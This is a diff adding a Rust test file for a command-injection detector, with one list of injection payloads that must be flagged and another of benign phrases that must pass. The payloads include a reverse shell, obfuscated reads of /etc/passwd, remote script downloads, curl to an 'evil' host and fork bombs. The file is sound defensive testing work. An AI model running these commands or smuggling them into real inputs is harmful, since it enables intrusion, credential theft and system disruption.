@@ -1,0 +1,77 @@
+use super::detect;
+
+#[test]
+fn payloads() {
+    for a in [
+        ";/sbin/shutdown",
+        "; cat /et'c/pa'ss'wd",
+        "cmd=127.0.0.1 && ls /etc",
+        "ax--exec=`id`--remote=origin",
+        ";wget http://some_host/sh311.sh",
+        "|getent hosts somehost.example.net.&",
+        ";getent$IFS$9hosts$IFS$9somehost;echo$IFS$9$((3482*7301));",
+        "| set /a 3482*7301",
+        "$(whoami)",
+        "127.0.0.1; ping -c 3 example.com",
+        "x || curl http://evil",
+        "cat /etc/passwd",
+        "wget http://example.com/x.sh",
+        "a\nid\n",
+        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+        "nohup ifconfig",
+        "ansible all -m ping",
+        "/etc/pas[s]wd",
+        "www.google.com;c$@at /et$@c/pas$@swd",
+        "alias a=c${KK}url&a google.com",
+        ":(){ :|:& };:",
+        "f(){ f|f& };f",
+        "/???/b??h",
+        "/etc/[!abc]asswd",
+        "/usr/[a-z]in/bash",
+        "$((3482*7301))",
+        ">(tee log)",
+        "www.google.com;/bin/ca? /et*/passwd",
+        ";iwr http://example.com/path/file.ps1",
+        "$SHELL -c \"echo hi\"",
+        "'i'fconfig",
+        "python3.10 -c 'import os'",
+        "IF %ERRORLEVEL% EQU 2 goto x",
+        "for /l %%I in (0,1,5) do call echo %%RANDOM%%",
+        "IF /I NOT EXIST C:\\nonexistent echo hey",
+        "IF /I \"%var%\"==\"hello, world!\" ( ECHO found )",
+    ] {
+        assert!(detect(a), "missed: {a}");
+    }
+}
+
+#[test]
+fn benign() {
+    for b in [
+        "echo in the mirror",
+        "curl and divergence",
+        "exec noun",
+        "bash away in the gym",
+        "zsh is the best!",
+        "ls 300 lexus",
+        "nc 8000 controller",
+        "Tom & Jerry",
+        "salt & pepper; cat food",
+        "R&D department",
+        "a | b | c",
+        "time he came.",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+        "rock & roll",
+        "Q&A",
+        "time is money",
+        "Is it 50% off? [y] or [n]",
+        "What's ${price}?",
+        "function f() { return a || b && c; }",
+        "if you exist, call me",
+        "for all of us in the team, do your best",
+        "Nice to meet you",
+        "I'd watch it again",
+        "https://app.example.com/dashboard?action=edit&id=123",
+    ] {
+        assert!(!detect(b), "false positive: {b}");
+    }
+}
